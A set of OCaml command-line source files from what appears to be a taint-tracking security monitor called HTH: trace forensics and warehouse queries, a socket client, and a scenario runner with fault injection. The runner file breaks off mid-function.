    | Some dir -> Forensics.Reader.of_string (raw_of_store dir path)
  in
  match parsed with
  | Ok t -> t
  | Error m ->
    Printf.eprintf "hth_trace: %s: %s\n" path m;
    exit 2

let store_opt_arg =
  let doc =
    "Read from the trace warehouse at $(docv) instead of the \
     filesystem; positional arguments are then run ids from its \
     manifest (see hth_trace fleet ls)."
  in
  Arg.(value & opt (some string) None & info [ "store" ] ~docv:"DIR" ~doc)

let trace_arg =
  Arg.(
    required
    & pos 0 (some string) None
    & info [] ~docv:"TRACE"
        ~doc:"Recorded JSONL trace file (a warehouse run id with --store).")

(* ------------------------------------------------------------------ *)
(* explain                                                             *)

let explain_cmd =
  let doc =
    "Print every warning's causal chain: the firing rule activation, the \
     matched facts resolved to their originating events by step index, \
     and the taint origins resolved to the first touch of the \
     responsible resource.  Output is byte-deterministic for a given \
     trace."
  in
  let json_flag =
    Arg.(
      value & flag
      & info [ "json" ] ~doc:"Emit one JSON object per chain instead of text.")
  in
  let rule_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "rule" ] ~docv:"NAME" ~doc:"Only chains of this policy rule.")
  in
  let run store path json rule =
    let trace = load ~store path in
    let chains = Forensics.Chain.explain trace in
    let chains =
      match rule with
      | None -> chains
      | Some r ->
        List.filter
          (fun (c : Forensics.Chain.t) ->
            Forensics.Reader.str_field c.warning "rule" = Some r)
          chains
    in
    if json then
      List.iter
        (fun c -> print_endline (Forensics.Chain.json_of_chain c))
        chains
    else Fmt.pr "%a" Forensics.Chain.pp_chains chains
  in
  Cmd.v (Cmd.info "explain" ~doc)
    Term.(const run $ store_opt_arg $ trace_arg $ json_flag $ rule_arg)

(* ------------------------------------------------------------------ *)
(* query                                                               *)

let query_cmd =
  let doc =
    "Filter trace entries by event kind, pid, resource-name substring \
     and step range; print the matching lines verbatim."
  in
  let ev_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "ev" ] ~docv:"KIND"
          ~doc:"Event kind (phase, syscall, flow, rule, warning, fault, \
                counter, hot_block).")
  in
  let pid_arg =
    Arg.(value & opt (some int) None & info [ "pid" ] ~docv:"PID" ~doc:"Pid.")
  in
  let resource_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "resource" ] ~docv:"SUBSTR"
          ~doc:"Substring matched against resource-name fields.")
  in
  let from_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "from" ] ~docv:"STEP" ~doc:"First step (inclusive).")
  in
  let to_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "to" ] ~docv:"STEP" ~doc:"Last step (inclusive).")
  in
  let count_flag =
    Arg.(
      value & flag
      & info [ "count" ] ~doc:"Print only the number of matching entries.")
  in
  let run store path ev pid resource step_min step_max count =
    let trace = load ~store path in
    let f = { Forensics.Query.ev; pid; resource; step_min; step_max } in
    let hits = Forensics.Query.run trace f in
    if count then Printf.printf "%d\n" (List.length hits)
    else
      List.iter
        (fun (e : Forensics.Reader.entry) -> print_endline e.raw)
        hits
  in
  Cmd.v (Cmd.info "query" ~doc)
    Term.(
      const run $ store_opt_arg $ trace_arg $ ev_arg $ pid_arg
      $ resource_arg $ from_arg $ to_arg $ count_flag)

(* ------------------------------------------------------------------ *)
(* diff                                                                *)

let diff_cmd =
  let doc =
    "Structural diff of two traces: report the first-divergence step \
     and both lines; exit 1 on divergence, 0 when byte-identical."
  in
  let a_arg =
    Arg.(
      required
      & pos 0 (some string) None
      & info [] ~docv:"TRACE_A" ~doc:"Baseline trace (run id with --store).")
  in
  let b_arg =
    Arg.(
      required
      & pos 1 (some string) None
      & info [] ~docv:"TRACE_B" ~doc:"Trace to compare (run id with --store).")
  in
  let run store a b =
    let d =
      match store with
      | None -> Forensics.Tdiff.diff_files ~expected:a ~actual:b
      | Some dir ->
        Ok
          (Forensics.Tdiff.diff ~expected:(raw_of_store dir a)
             ~actual:(raw_of_store dir b))
    in
    match d with
    | Error m ->
      Printf.eprintf "hth_trace: %s\n" m;
      exit 2
    | Ok None -> Fmt.pr "traces identical@."
    | Ok (Some d) ->
      Fmt.pr "%a" (Forensics.Tdiff.pp ~a_name:a ~b_name:b) d;
      exit 1
  in
  Cmd.v (Cmd.info "diff" ~doc)
    Term.(const run $ store_opt_arg $ a_arg $ b_arg)

(* ------------------------------------------------------------------ *)
(* profile                                                             *)

let profile_cmd =
  let doc =
    "Profile a trace offline: phase spans, event mix, syscall mix and \
     top-N hot blocks from the counters the session embedded — the \
     same numbers the live run printed under --stats."
  in
  let top_arg =
    Arg.(
      value & opt int 10
      & info [ "top" ] ~docv:"N" ~doc:"How many hot blocks to print.")
  in
  let run store path top =
    let trace = load ~store path in
    Fmt.pr "%a"
      (fun ppf p -> Forensics.Profile.pp ~top ppf p)
      (Forensics.Profile.of_trace trace)
  in
  Cmd.v (Cmd.info "profile" ~doc)
    Term.(const run $ store_opt_arg $ trace_arg $ top_arg)

(* ------------------------------------------------------------------ *)
(* fleet: cross-run queries over a warehouse                           *)

let store_req_arg =
  let doc = "The trace warehouse directory to query." in
  Arg.(
    required
    & opt (some string) None
    & info [ "store" ] ~docv:"DIR" ~doc)

let fleet_ls_cmd =
  let doc =
    "List the warehouse manifest, one row per stored run, in append \
     order: run id, policy, verdict, expectation match, steps and \
     raw/framed sizes, counter digest."
  in
  let run store =
    let view = load_view store in
    List.iter
      (fun (e : Store.Manifest.entry) ->
        Printf.printf "%-44s %-7s %-24s %-8s %6d %9d %9d %s\n" e.e_run
          e.e_policy e.e_verdict
          (if e.e_match then "ok" else "MISMATCH")
          e.e_steps e.e_raw_bytes e.e_framed_bytes e.e_digest)
      view.v_entries;
    let raw, framed =
      List.fold_left
        (fun (r, f) (e : Store.Manifest.entry) ->
          (r + e.e_raw_bytes, f + e.e_framed_bytes))
        (0, 0) view.v_entries
    in
    Printf.printf "%d runs, %d bytes raw, %d framed\n"
      (List.length view.v_entries)
      raw framed
  in
  Cmd.v (Cmd.info "ls" ~doc) Term.(const run $ store_req_arg)

let fleet_query_cmd =
  let doc =
    "Find every stored run satisfying all given predicates, by manifest \
     metadata and segment index alone (no trace is decompressed).  \
     E.g. --resource execve finds every session where a tainted name \
     reached an exec; the reported steps are the evidence lines, ready \
     for hth_trace query --store --from/--to."
  in
  let scenario_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "scenario" ] ~docv:"NAME" ~doc:"Exact scenario name.")
  in
  let rule_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "rule" ] ~docv:"NAME"
          ~doc:"A warning fired by this policy rule.")
  in
  let severity_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "severity" ] ~docv:"SEV"
          ~doc:"A warning of this severity (LOW|MEDIUM|HIGH).")
  in
  let resource_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "resource" ] ~docv:"SUBSTR"
          ~doc:"Substring of an indexed resource/name touched by a flow.")
  in
  let verdict_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "verdict" ] ~docv:"SUBSTR"
          ~doc:"Substring of the run's verdict label.")
  in
  let count_flag =
    Arg.(
      value & flag
      & info [ "count" ] ~doc:"Print only the number of matching runs.")
  in
  let run store scenario rule severity resource verdict count =
    let view = load_view store in
    let f =
      { Store.Fleet_query.q_scenario = scenario; q_rule = rule;
        q_severity = severity; q_resource = resource; q_verdict = verdict }
    in
    match Store.Fleet_query.query view f with
    | Error e -> fail_store e
    | Ok hits ->
      if count then Printf.printf "%d\n" (List.length hits)
      else begin
        List.iter
          (fun (h : Store.Fleet_query.hit) ->
            Printf.printf "%-44s %-24s %s\n" h.h_entry.e_run
              h.h_entry.e_verdict
              (match h.h_steps with
               | [] -> "-"
               | steps ->
                 "steps "
                 ^ String.concat "," (List.map string_of_int steps)))
          hits;
        Printf.printf "%d matching runs\n" (List.length hits)
      end
  in
  Cmd.v (Cmd.info "query" ~doc)
    Term.(
      const run $ store_req_arg $ scenario_arg $ rule_arg $ severity_arg
      $ resource_arg $ verdict_arg $ count_flag)

let fleet_profile_cmd =
  let doc =
    "Aggregate per-block hit counts across every stored run — the \
     fleet-wide hot-block profile, hottest first — from segment \
     indexes alone."
  in
  let top_arg =
    Arg.(
      value & opt int 10
      & info [ "top" ] ~docv:"N" ~doc:"How many blocks to print.")
  in
  let run store top =
    match Store.Fleet_query.profile (load_view store) with
    | Error e -> fail_store e
    | Ok blocks ->
      Printf.printf "%10s %5s  %s\n" "hits" "runs" "block";
      List.iteri
        (fun i (b : Store.Fleet_query.block) ->
          if i < top then
            Printf.printf "%10d %5d  pid %d 0x%06x\n" b.b_count b.b_runs
              b.b_pid b.b_addr)
        blocks;
      Printf.printf "%d distinct blocks fleet-wide\n" (List.length blocks)
  in
  Cmd.v (Cmd.info "profile" ~doc)
    Term.(const run $ store_req_arg $ top_arg)

let fleet_diff_cmd =
  let doc =
    "Compare one run's embedded counter profile against the fleet \
     median (lower median over every stored run, absent counters \
     counting 0): prints each drifting counter with both values."
  in
  let run_arg =
    Arg.(
      required
      & pos 0 (some string) None
      & info [] ~docv:"RUN" ~doc:"Run id (see fleet ls).")
  in
  let run store run_id =
    match Store.Fleet_query.diff (load_view store) ~run:run_id with
    | Error e -> fail_store e
    | Ok (drifts, compared) ->
      List.iter
        (fun (d : Store.Fleet_query.drift) ->
          Printf.printf "%-44s %10d  median %10d\n" d.d_name d.d_value
            d.d_median)
        drifts;
      Printf.printf "%d of %d counters drift from the fleet median\n"
        (List.length drifts) compared
  in
  Cmd.v (Cmd.info "diff" ~doc) Term.(const run $ store_req_arg $ run_arg)

let fleet_cmd =
  let doc = "Cross-run queries over a trace warehouse." in
  Cmd.group
    (Cmd.info "fleet" ~doc)
    [ fleet_ls_cmd; fleet_query_cmd; fleet_profile_cmd; fleet_diff_cmd ]

let default = Term.(ret (const (`Help (`Pager, None))))

let () =
  let info =
    Cmd.info "hth_trace" ~version:"1.0"
      ~doc:"Offline forensic analysis of recorded HTH traces"
  in
  exit
    (Cmd.eval
       (Cmd.group ~default info
          [ explain_cmd; query_cmd; diff_cmd; profile_cmd; fleet_cmd ]))
