(* hth_trace: offline forensic analysis of recorded JSONL traces.
   Everything here reads trace files only — no guest re-execution.

     hth_trace explain trace.jsonl            per-warning causal chains
     hth_trace query trace.jsonl --ev flow    filter the event stream
     hth_trace diff a.jsonl b.jsonl           first-divergence step
     hth_trace profile trace.jsonl            hot blocks / syscall mix *)

open Cmdliner

let load path =
  match Forensics.Reader.of_file path with
  | Ok t -> t
  | Error m ->
    Printf.eprintf "hth_trace: %s: %s\n" path m;
    exit 2

let trace_arg =
  Arg.(
    required
    & pos 0 (some file) None
    & info [] ~docv:"TRACE" ~doc:"Recorded JSONL trace file.")

(* ------------------------------------------------------------------ *)
(* explain                                                             *)

let explain_cmd =
  let doc =
    "Print every warning's causal chain: the firing rule activation, the \
     matched facts resolved to their originating events by step index, \
     and the taint origins resolved to the first touch of the \
     responsible resource.  Output is byte-deterministic for a given \
     trace."
  in
  let json_flag =
    Arg.(
      value & flag
      & info [ "json" ] ~doc:"Emit one JSON object per chain instead of text.")
  in
  let rule_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "rule" ] ~docv:"NAME" ~doc:"Only chains of this policy rule.")
  in
  let run path json rule =
    let trace = load path in
    let chains = Forensics.Chain.explain trace in
    let chains =
      match rule with
      | None -> chains
      | Some r ->
        List.filter
          (fun (c : Forensics.Chain.t) ->
            Forensics.Reader.str_field c.warning "rule" = Some r)
          chains
    in
    if json then
      List.iter
        (fun c -> print_endline (Forensics.Chain.json_of_chain c))
        chains
    else Fmt.pr "%a" Forensics.Chain.pp_chains chains
  in
  Cmd.v (Cmd.info "explain" ~doc)
    Term.(const run $ trace_arg $ json_flag $ rule_arg)

(* ------------------------------------------------------------------ *)
(* query                                                               *)

let query_cmd =
  let doc =
    "Filter trace entries by event kind, pid, resource-name substring \
     and step range; print the matching lines verbatim."
  in
  let ev_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "ev" ] ~docv:"KIND"
          ~doc:"Event kind (phase, syscall, flow, rule, warning, fault, \
                counter, hot_block).")
  in
  let pid_arg =
    Arg.(value & opt (some int) None & info [ "pid" ] ~docv:"PID" ~doc:"Pid.")
  in
  let resource_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "resource" ] ~docv:"SUBSTR"
          ~doc:"Substring matched against resource-name fields.")
  in
  let from_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "from" ] ~docv:"STEP" ~doc:"First step (inclusive).")
  in
  let to_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "to" ] ~docv:"STEP" ~doc:"Last step (inclusive).")
  in
  let count_flag =
    Arg.(
      value & flag
      & info [ "count" ] ~doc:"Print only the number of matching entries.")
  in
  let run path ev pid resource step_min step_max count =
    let trace = load path in
    let f = { Forensics.Query.ev; pid; resource; step_min; step_max } in
    let hits = Forensics.Query.run trace f in
    if count then Printf.printf "%d\n" (List.length hits)
    else
      List.iter
        (fun (e : Forensics.Reader.entry) -> print_endline e.raw)
        hits
  in
  Cmd.v (Cmd.info "query" ~doc)
    Term.(
      const run $ trace_arg $ ev_arg $ pid_arg $ resource_arg $ from_arg
      $ to_arg $ count_flag)

(* ------------------------------------------------------------------ *)
(* diff                                                                *)

let diff_cmd =
  let doc =
    "Structural diff of two traces: report the first-divergence step \
     and both lines; exit 1 on divergence, 0 when byte-identical."
  in
  let a_arg =
    Arg.(
      required
      & pos 0 (some file) None
      & info [] ~docv:"TRACE_A" ~doc:"Baseline trace.")
  in
  let b_arg =
    Arg.(
      required
      & pos 1 (some file) None
      & info [] ~docv:"TRACE_B" ~doc:"Trace to compare.")
  in
  let run a b =
    match Forensics.Tdiff.diff_files ~expected:a ~actual:b with
    | Error m ->
      Printf.eprintf "hth_trace: %s\n" m;
      exit 2
    | Ok None -> Fmt.pr "traces identical@."
    | Ok (Some d) ->
      Fmt.pr "%a" (Forensics.Tdiff.pp ~a_name:a ~b_name:b) d;
      exit 1
  in
  Cmd.v (Cmd.info "diff" ~doc) Term.(const run $ a_arg $ b_arg)

(* ------------------------------------------------------------------ *)
(* profile                                                             *)

let profile_cmd =
  let doc =
    "Profile a trace offline: phase spans, event mix, syscall mix and \
     top-N hot blocks from the counters the session embedded — the \
     same numbers the live run printed under --stats."
  in
  let top_arg =
    Arg.(
      value & opt int 10
      & info [ "top" ] ~docv:"N" ~doc:"How many hot blocks to print.")
  in
  let run path top =
    let trace = load path in
    Fmt.pr "%a"
      (fun ppf p -> Forensics.Profile.pp ~top ppf p)
      (Forensics.Profile.of_trace trace)
  in
  Cmd.v (Cmd.info "profile" ~doc) Term.(const run $ trace_arg $ top_arg)

let default = Term.(ret (const (`Help (`Pager, None))))

let () =
  let info =
    Cmd.info "hth_trace" ~version:"1.0"
      ~doc:"Offline forensic analysis of recorded HTH traces"
  in
  exit
    (Cmd.eval
       (Cmd.group ~default info
          [ explain_cmd; query_cmd; diff_cmd; profile_cmd ]))
