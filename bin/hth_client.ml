(* hth_client: minimal Unix-socket client for hth_serve.

     dune exec bin/hth_client.exe -- --socket /tmp/hth.sock < requests.jsonl

   Sends every stdin line to the server, prints every response line to
   stdout, exits when the server has answered them all (the write side
   is shut down after the last request so the server sees EOF and
   drains the connection).

   --abort-after K disconnects abruptly after reading K responses —
   the misbehaving-client scenario the serve-resilience gate uses to
   prove one dying connection cannot take the fleet down. *)

open Cmdliner

let socket_arg =
  let doc = "Unix socket the hth_serve instance listens on." in
  Arg.(
    required
    & opt (some string) None
    & info [ "socket" ] ~docv:"PATH" ~doc)

let abort_arg =
  let doc =
    "Close the connection abruptly after reading $(docv) response \
     lines, leaving the remaining requests unanswered client-side."
  in
  Arg.(
    value & opt (some int) None & info [ "abort-after" ] ~docv:"K" ~doc)

let main socket abort_after =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  (try Unix.connect fd (Unix.ADDR_UNIX socket)
   with Unix.Unix_error (e, _, _) ->
     Printf.eprintf "hth_client: cannot connect to %s: %s\n%!" socket
       (Unix.error_message e);
     exit 1);
  let oc = Unix.out_channel_of_descr fd in
  let ic = Unix.in_channel_of_descr fd in
  let writer =
    Thread.create
      (fun () ->
        (try
           let rec go () =
             match In_channel.input_line stdin with
             | None -> ()
             | Some line ->
               output_string oc line;
               output_char oc '\n';
               flush oc;
               go ()
           in
           go ()
         with _ -> ());
        (* half-close: server reads EOF, answers what it admitted *)
        try Unix.shutdown fd Unix.SHUTDOWN_SEND
        with Unix.Unix_error _ -> ())
      ()
  in
  let rec read n =
    match abort_after with
    | Some k when n >= k ->
      (* the misbehaving client: vanish mid-stream *)
      (try Unix.close fd with Unix.Unix_error _ -> ());
      exit 0
    | _ -> (
      match In_channel.input_line ic with
      | None -> n
      | Some line ->
        print_endline line;
        read (n + 1))
  in
  ignore (read 0);
  Thread.join writer;
  try Unix.close fd with Unix.Unix_error _ -> ()

let () =
  let doc = "line-framed JSON client for hth_serve sockets" in
  let info = Cmd.info "hth_client" ~version:"1.0" ~doc in
  exit (Cmd.eval (Cmd.v info Term.(const main $ socket_arg $ abort_arg)))
