(* hth_run: run any corpus scenario under HTH and report.

     dune exec bin/hth_run.exe -- list
     dune exec bin/hth_run.exe -- run pma --events
     dune exec bin/hth_run.exe -- run grabem --no-dataflow --trust-nothing *)

open Cmdliner

let list_cmd =
  let doc = "List every scenario in the evaluation corpus." in
  let run () =
    List.iter
      (fun (gid, title, scs) ->
        Printf.printf "%s (%s):\n" title gid;
        List.iter
          (fun (sc : Guest.Scenario.t) ->
            Printf.printf "  %-40s %-18s %s\n" sc.sc_name
              (Guest.Scenario.expected_label sc.sc_expected)
              sc.sc_descr)
          scs)
      Guest.Corpus.groups
  in
  Cmd.v (Cmd.info "list" ~doc) Term.(const run $ const ())

let scenario_arg =
  let doc = "Scenario name (see $(b,list))." in
  Arg.(required & pos 0 (some string) None & info [] ~docv:"SCENARIO" ~doc)

let events_flag =
  let doc = "Also print the raw Harrier event stream." in
  Arg.(value & flag & info [ "events" ] ~doc)

let no_dataflow_flag =
  let doc = "Disable per-instruction data-flow tracking." in
  Arg.(value & flag & info [ "no-dataflow" ] ~doc)

let no_freq_flag =
  let doc = "Disable basic-block frequency tracking." in
  Arg.(value & flag & info [ "no-frequency" ] ~doc)

let no_shortcircuit_flag =
  let doc = "Disable library-call short-circuiting (gethostbyname)." in
  Arg.(value & flag & info [ "no-shortcircuit" ] ~doc)

let no_tier_flag =
  let doc =
    "Disable tiered block execution: every basic block is interpreted \
     per-instruction (tier 0) instead of promoting hot blocks to \
     compiled bodies with fused taint summaries.  Traces are \
     byte-identical either way; this flag only trades speed.  The \
     HTH_TIER environment variable set to 0 has the same effect."
  in
  Arg.(value & flag & info [ "no-tier" ] ~doc)

let tier_threshold_arg =
  let doc =
    Printf.sprintf
      "Promote a basic block to tier 1 after it has been entered $(docv) \
       times (default %d).  1 compiles every block on first entry."
      Harrier.Monitor.default_config.tier_threshold
  in
  Arg.(
    value
    & opt int Harrier.Monitor.default_config.tier_threshold
    & info [ "tier-threshold" ] ~docv:"N" ~doc)

(* --no-tier, or HTH_TIER=0 in the environment (handy for A/B runs of
   whole test suites without threading a flag everywhere) *)
let tier_enabled no_tier =
  (not no_tier)
  && (match Sys.getenv_opt "HTH_TIER" with Some "0" -> false | _ -> true)

let trust_nothing_flag =
  let doc = "Empty the trust database (libc warnings included)." in
  Arg.(value & flag & info [ "trust-nothing" ] ~doc)

let clips_flag =
  let doc = "Drive Secpert with the textual CLIPS policy instead of the              native rules." in
  Arg.(value & flag & info [ "clips-policy" ] ~doc)

let verbose_flag =
  let doc = "Enable debug tracing of syscalls and monitor events." in
  Arg.(value & flag & info [ "verbose"; "v" ] ~doc)

let kill_at_arg =
  let doc =
    "Kill the offending process when a warning at or above this severity \
     fires (LOW, MEDIUM or HIGH) — stands in for the interactive user."
  in
  Arg.(value & opt (some string) None & info [ "kill-at" ] ~docv:"SEV" ~doc)

let trace_arg =
  let doc =
    "Write a JSONL event trace (syscalls, taint flows, rule firings, \
     warnings; one JSON object per line with a monotone step index) to \
     $(docv).  Traces of the deterministic simulator are byte-identical \
     across runs — the golden harness in test/golden/ relies on this."
  in
  Arg.(value & opt (some string) None & info [ "trace" ] ~docv:"FILE" ~doc)

let stats_flag =
  let doc = "Print the observability counters collected during the run." in
  Arg.(value & flag & info [ "stats" ] ~doc)

let store_arg =
  let doc =
    "Record the run into the trace warehouse at $(docv) (created if \
     missing, extended if present): a framed, compressed trace segment \
     with an embedded offset index, plus a manifest entry carrying the \
     verdict and a counter digest.  Query with hth_trace --store; the \
     reconstructed trace is byte-identical to --trace output."
  in
  Arg.(value & opt (some string) None & info [ "store" ] ~docv:"DIR" ~doc)

let open_store dir =
  match Store.Warehouse.open_ dir with
  | Ok wh -> wh
  | Error e ->
    Printf.eprintf "hth_run: %s\n" (Hth.Error.to_string e);
    exit 2

(* One manifest entry per run, shared by `run --store` and
   `batch --store`: error outcomes are recorded too ([error:<kind>],
   match:false) so the warehouse is a complete account of the batch. *)
let manifest_entry ~scenario ~expected ~matches ~policy ~seed ~fault_plan
    outcome (sealed : Store.Segment.sealed) =
  let verdict, matched, warnings, distinct, degraded =
    match outcome with
    | Ok (r : Hth.Engine.result) ->
      let v = Hth.Report.verdict r in
      ( Hth.Report.verdict_label v, matches v,
        List.length r.warnings, List.length r.distinct, r.degraded <> [] )
    | Error e -> "error:" ^ Hth.Error.kind e, false, 0, 0, false
  in
  { Store.Manifest.e_run = scenario;
    e_scenario = scenario;
    e_policy = policy;
    e_seed = seed;
    e_fault = Option.map Osim.Fault.to_string fault_plan;
    e_verdict = verdict;
    e_expected = expected;
    e_match = matched;
    e_warnings = warnings;
    e_distinct = distinct;
    e_degraded = degraded;
    e_steps = 0;  (* size fields are filled by Warehouse.append *)
    e_raw_bytes = 0;
    e_framed_bytes = 0;
    e_digest = Store.Manifest.digest sealed.s_index.ix_counters;
    e_segment = "" }

(* Fault plans and budgets are validated by cmdliner converters, so a
   malformed SPEC is a usage error (cmdliner's CLI-error exit code), not
   a crash deep in the run. *)

let fault_conv =
  let parse s = Result.map_error (fun e -> `Msg e) (Osim.Fault.parse s) in
  let print ppf p = Fmt.string ppf (Osim.Fault.to_string p) in
  Arg.conv (parse, print)

let fault_plan_arg =
  let doc =
    "Inject deterministic syscall faults.  $(docv) is a comma-separated \
     list of rules CALL[@RESOURCE][#N]=KIND — CALL a syscall name or *, \
     RESOURCE a resource-name substring, N the 1-based occurrence, KIND \
     one of enoent, eio, enomem, eagain, ebadf, econnreset, short, \
     stall.  Example: SYS_open@/etc/passwd#2=enoent,SYS_read=short"
  in
  Arg.(
    value
    & opt (some fault_conv) None
    & info [ "fault-plan" ] ~docv:"SPEC" ~doc)

let seed_arg =
  let doc =
    "Inject pseudo-random (but fully deterministic) syscall faults drawn \
     from the given seed.  Mutually exclusive with $(b,--fault-plan)."
  in
  Arg.(value & opt (some int) None & info [ "seed" ] ~docv:"N" ~doc)

let budget_conv =
  let parse s =
    match Hth.Session.parse_budgets [ s ] with
    | Ok _ -> Ok s
    | Error e -> Error (`Msg e)
  in
  Arg.conv (parse, Fmt.string)

let budget_args =
  let doc =
    "Bound one session resource (repeatable).  $(docv) is KEY=N with KEY \
     one of ticks, wm, shadow-pages, warnings.  Budgets degrade \
     gracefully: the run completes and is flagged degraded."
  in
  Arg.(value & opt_all budget_conv [] & info [ "budget" ] ~docv:"KEY=N" ~doc)

let fault_of plan seed =
  match plan, seed with
  | Some _, Some _ ->
    Printf.eprintf "--fault-plan and --seed are mutually exclusive\n";
    exit 2
  | Some p, None -> p
  | None, Some s -> Osim.Fault.seeded s
  | None, None -> Osim.Fault.none

let budgets_of specs =
  (* specs were validated one by one by [budget_conv] *)
  match Hth.Session.parse_budgets specs with
  | Ok b -> b
  | Error e ->
    Printf.eprintf "%s\n" e;
    exit 2

let run_scenario name events no_dataflow no_freq no_shortcircuit no_tier
    tier_threshold trust_nothing clips verbose kill_at trace_file stats
    fault_plan seed budget_specs store_dir =
  if verbose then begin
    Logs.set_reporter (Logs.format_reporter ());
    Logs.set_level (Some Logs.Debug)
  end;
  match Guest.Corpus.find name with
  | None ->
    Printf.eprintf "unknown scenario %S; try `list`\n" name;
    exit 2
  | Some sc ->
    let monitor_config =
      { Harrier.Monitor.default_config with
        track_dataflow = not no_dataflow;
        track_frequency = not no_freq;
        shortcircuit =
          (if no_shortcircuit then []
           else Harrier.Monitor.default_config.shortcircuit);
        tier = tier_enabled no_tier;
        tier_threshold }
    in
    let trust =
      if trust_nothing then Secpert.Trust.nothing else Secpert.Trust.default
    in
    let auto_kill =
      Option.map
        (fun s ->
          match Secpert.Severity.of_label (String.uppercase_ascii s) with
          | Some sev -> sev
          | None ->
            Printf.eprintf "bad severity %S (LOW|MEDIUM|HIGH)\n" s;
            exit 2)
        kill_at
    in
    let policy =
      if clips then Secpert.System.Clips else Secpert.System.Native
    in
    let store = Option.map open_store store_dir in
    let writer = Option.map (fun _ -> Store.Segment.Writer.create ()) store in
    let trace_oc = Option.map open_out trace_file in
    (* the session owns the sink lifecycle; with both --trace and
       --store, one chunked sink tees so the file and the segment hold
       identical bytes by construction *)
    let trace =
      match trace_oc, writer with
      | None, None -> None
      | Some oc, None -> Some (Obs.Trace.channel_target oc)
      | None, Some w -> Some (Store.Segment.Writer.target w)
      | Some oc, Some w ->
        Some
          (Obs.Trace.chunk_target (fun chunk ->
               output_string oc chunk;
               Store.Segment.Writer.add_chunk w chunk))
    in
    let outcome =
      Fun.protect
        ~finally:(fun () -> Option.iter close_out trace_oc)
        (fun () ->
          Hth.Session.run_outcome ~monitor_config ~trust ~policy ?auto_kill
            ~budgets:(budgets_of budget_specs)
            ~fault:(fault_of fault_plan seed) ?trace sc.sc_setup)
    in
    Option.iter
      (fun wh ->
        let sealed = Store.Segment.Writer.seal (Option.get writer) in
        let entry =
          manifest_entry ~scenario:sc.sc_name
            ~expected:(Guest.Scenario.expected_label sc.sc_expected)
            ~matches:(Guest.Scenario.matches sc.sc_expected)
            ~policy:(if clips then "clips" else "native")
            ~seed ~fault_plan outcome sealed
        in
        ignore (Store.Warehouse.append wh ~entry ~sealed);
        Store.Warehouse.close wh)
      store;
    (match outcome with
     | Error e ->
       (* one-line typed diagnosis; the exit code identifies the class *)
       Fmt.epr "hth_run: %s: %a@." name Hth.Error.pp e;
       exit (Hth.Error.exit_code e)
     | Ok r ->
       Fmt.pr "%a@." (Hth.Report.pp_result ~verbose:events) r;
       Fmt.pr "expected: %s@."
         (Guest.Scenario.expected_label sc.sc_expected);
       Fmt.pr "%a@." Osim.Kernel.pp_report r.os_report;
       if stats then begin
         Fmt.pr "%a@." Hth.Report.pp_stats r.stats;
         Fmt.pr "%a@." Hth.Report.pp_tier r.tier;
         Fmt.pr "%a@." Hth.Report.pp_hot_blocks r.hot_blocks
       end;
       if
         not
           (Guest.Scenario.matches sc.sc_expected (Hth.Report.verdict r))
       then exit 1)

let run_cmd =
  let doc = "Run one scenario under HTH monitoring." in
  Cmd.v (Cmd.info "run" ~doc)
    Term.(
      const run_scenario $ scenario_arg $ events_flag $ no_dataflow_flag
      $ no_freq_flag $ no_shortcircuit_flag $ no_tier_flag
      $ tier_threshold_arg $ trust_nothing_flag
      $ clips_flag $ verbose_flag $ kill_at_arg $ trace_arg $ stats_flag
      $ fault_plan_arg $ seed_arg $ budget_args $ store_arg)

(* ------------------------------------------------------------------ *)
(* batch: the whole corpus, crash-isolated                             *)

let batch_cmd =
  let doc =
    "Run the whole corpus through one shared engine, isolating \
     per-scenario failures.  The engine compiles the policy and links \
     each scenario's images once; per-scenario failures print one \
     summary row and the exit status is nonzero if any scenario errored \
     or missed its expected verdict — without a single broken scenario \
     aborting the rest."
  in
  let share_taint_flag =
    let doc =
      "Share one taint arena across the whole batch (faster; per-run \
       taint.* counters become warm-dependent and are omitted from \
       traces)."
    in
    Arg.(value & flag & info [ "share-taint" ] ~doc)
  in
  let jobs_arg =
    let doc =
      "Run scenarios on $(docv) worker domains (work-stealing fleet; \
       each worker forks the engine's mutable pools).  Output is \
       byte-identical whatever $(docv) is."
    in
    Arg.(value & opt int 1 & info [ "jobs"; "j" ] ~docv:"N" ~doc)
  in
  let trace_dir_arg =
    let doc =
      "Write each scenario's JSONL trace to $(docv)/NAME.jsonl.  Traces \
       are captured per worker domain and are byte-identical to \
       single-scenario --trace runs."
    in
    Arg.(value & opt (some string) None & info [ "trace-dir" ] ~docv:"DIR" ~doc)
  in
  let batch_store_arg =
    let doc =
      "Record every scenario of the batch into the trace warehouse at \
       $(docv).  Segments are sealed on the worker domains but appended \
       in submission order by the coordinator, so the store is \
       byte-identical whatever $(b,--jobs) is."
    in
    Arg.(value & opt (some string) None & info [ "store" ] ~docv:"DIR" ~doc)
  in
  let run no_tier tier_threshold trust_nothing clips kill_at fault_plan
      seed budget_specs share_taint jobs trace_dir store_dir =
    let budgets = budgets_of budget_specs in
    let fault = fault_of fault_plan seed in
    let trust =
      if trust_nothing then Secpert.Trust.nothing else Secpert.Trust.default
    in
    let auto_kill =
      Option.map
        (fun s ->
          match Secpert.Severity.of_label (String.uppercase_ascii s) with
          | Some sev -> sev
          | None ->
            Printf.eprintf "bad severity %S (LOW|MEDIUM|HIGH)\n" s;
            exit 2)
        kill_at
    in
    let policy =
      if clips then Secpert.System.Clips else Secpert.System.Native
    in
    let monitor_config =
      { Harrier.Monitor.default_config with
        tier = tier_enabled no_tier;
        tier_threshold }
    in
    let engine =
      Hth.Engine.create ~monitor_config ~trust ~policy ?auto_kill
        ~share_taint_space:share_taint ()
    in
    Option.iter
      (fun dir -> if not (Sys.file_exists dir) then Sys.mkdir dir 0o755)
      trace_dir;
